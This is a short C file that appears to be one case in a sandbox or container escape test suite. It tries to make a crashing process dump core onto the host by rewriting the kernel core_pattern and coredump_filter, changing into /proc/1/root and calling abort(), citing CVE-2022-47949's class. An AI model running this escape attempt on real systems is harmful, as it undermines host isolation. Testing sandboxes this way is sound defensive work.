/* Has its core dumped to a place of the host (core(5); CVE-2022-47949's class). */
#include "common/attack.h"

static void crash(void) {
    struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_CORE, &all);
    prctl(PR_SET_DUMPABLE, 1);
    if (chdir("/proc/1/root") < 0) {
        printf("stays where it is\n");
    }
    abort();
}

static void attempt(void) {
    put("/proc/sys/kernel/core_pattern", "/core-of-attacker");
    put("/proc/self/coredump_filter", "0xff");
    apart(crash, 5);
}
